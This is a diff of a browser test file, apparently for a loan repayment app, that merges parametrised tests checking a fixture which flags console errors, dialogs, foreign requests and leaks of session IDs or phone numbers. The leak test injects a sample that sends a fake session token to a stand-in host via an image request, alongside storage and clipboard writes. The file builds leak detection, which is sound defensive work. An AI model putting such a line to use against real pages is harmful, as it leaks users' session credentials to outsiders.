@@ -8,20 +8,25 @@ import { changeAmount, repaymentOf } from './support/repayment.ts';
 // change.
 
 test.describe('problems', () => {
-  for (const [expectation, script] of [
-    ['console: bad thing', 'console.error("bad thing")'],
-    ['page error: Error: thrown', 'throw new Error("thrown")'],
-    ['page error: Error: rejected', 'Promise.reject(new Error("rejected"))'],
-    ['dialog: alert: hello', 'alert("hello")'],
-    [/^foreign request: http:\/\/elsewhere\.example\//, 'new Image().src = "http://elsewhere.example/x.png"'],
-  ] as const) {
-    test(String(expectation), async ({ openScreen, problems }) => {
-      problems.expect(expectation);
-      if (script.includes('elsewhere')) problems.expect(/^console: Failed to load resource/);
-      await openMadeUp(openScreen, `<script>${script}</script>`);
-      await expect.poll(() => problems.complaints()).toEqual([]);
-    });
-  }
+  test('errors, dialogs and requests to elsewhere', async ({ openScreen, problems }) => {
+    problems.expect(
+      'console: bad thing',
+      'page error: Error: thrown',
+      'page error: Error: rejected',
+      'dialog: alert: hello',
+      /^foreign request: http:\/\/elsewhere\.example\//,
+      /^console: Failed to load resource/,
+    );
+    const scripts = [
+      'console.error("bad thing")',
+      'throw new Error("thrown")',
+      'Promise.reject(new Error("rejected"))',
+      'alert("hello")',
+      'new Image().src = "http://elsewhere.example/x.png"',
+    ];
+    await openMadeUp(openScreen, scripts.map((script) => `<script>${script}</script>`).join(''));
+    await expect.poll(() => problems.complaints()).toEqual([]);
+  });
 
   test('an answer that the contract does not allow', async ({ openScreen, sandbox }) => {
     changeAmount(sandbox, 'full', {} as number);
@@ -80,37 +85,36 @@ test.describe('problems', () => {
 });
 
 test.describe('what leaves the browser', () => {
-  const SEND =
-    'await fetch("/gateway/v3/x?sessionId=secret-1", { method: "POST", body: new URLSearchParams({ phone: "09171234567" }) });';
-  for (const [leak, script] of [
-    ['leak: local storage has a session: a=secret-1', 'localStorage.setItem("a", "secret-1")'],
-    ['leak: tab storage has a session: a={"s":"secret-1"}', 'sessionStorage.setItem("a", `{"s":"secret-1"}`)'],
-    ['leak: local storage has a phone or account number: a=09171234567', 'localStorage.setItem("a", "09171234567")'],
-    ['leak: console has a session: opened by secret-1', 'console.log("opened by", "secret-1")'],
-    ['leak: clipboard has a session: secret-1', 'await navigator.clipboard.writeText("secret-1")'],
-    [
+  test('a session or a phone where it must not be', async ({ openScreen, problems }) => {
+    problems.expect(
+      'leak: local storage has a session: a=secret-1',
+      'leak: tab storage has a session: a={"s":"secret-1"}',
+      'leak: local storage has a phone or account number: a=09171234567',
+      'leak: console has a session: opened by secret-1',
+      'leak: clipboard has a session: secret-1',
       /leak: own address has a phone or account number: .*\?to=09171234567/,
-      'await fetch("/gateway/v3/y?to=09171234567")',
-    ],
-    [
       /leak: referrer has a session: .*secret-1/,
-      'history.replaceState(null, "", "?sessionId=secret-1"); await fetch("/gateway/v3/y")',
-    ],
-    [
       /leak: foreign request has a session: http:..elsewhere.example.\?s=secret-1/,
-      'new Image().src = "http://elsewhere.example/?s=secret-1"',
-    ],
-  ] as const) {
-    test(String(leak), async ({ openScreen, problems }) => {
-      problems.expect(leak, 'Failed to load resource');
-      problems.allow(/^foreign request: http:\/\/elsewhere\.example/);
-      await openMadeUp(
-        openScreen,
-        `<meta name="referrer" content="unsafe-url"><script type="module">${SEND}${script}</script>`,
-      );
-      await expect.poll(() => problems.complaints()).toEqual([]);
-    });
-  }
+      'Failed to load resource',
+    );
+    problems.allow(/^foreign request: http:\/\/elsewhere\.example/);
+    await openMadeUp(
+      openScreen,
+      `<meta name="referrer" content="unsafe-url"><script type="module">
+        await fetch("/gateway/v3/x?sessionId=secret-1", { method: "POST", body: new URLSearchParams({ phone: "09171234567" }) });
+        localStorage.setItem("a", "secret-1");
+        sessionStorage.setItem("a", '{"s":"secret-1"}');
+        localStorage.setItem("a", "09171234567");
+        console.log("opened by", "secret-1");
+        await navigator.clipboard.writeText("secret-1");
+        await fetch("/gateway/v3/y?to=09171234567");
+        new Image().src = "http://elsewhere.example/?s=secret-1";
+        history.replaceState(null, "", "?sessionId=secret-1");
+        await fetch("/gateway/v3/y");
+      </script>`,
+    );
+    await expect.poll(() => problems.complaints()).toEqual([]);
+  });
 
   test('but the session to the lender, and what was typed in its tab', async ({ openScreen, problems }) => {
     problems.expect('Failed to load resource');
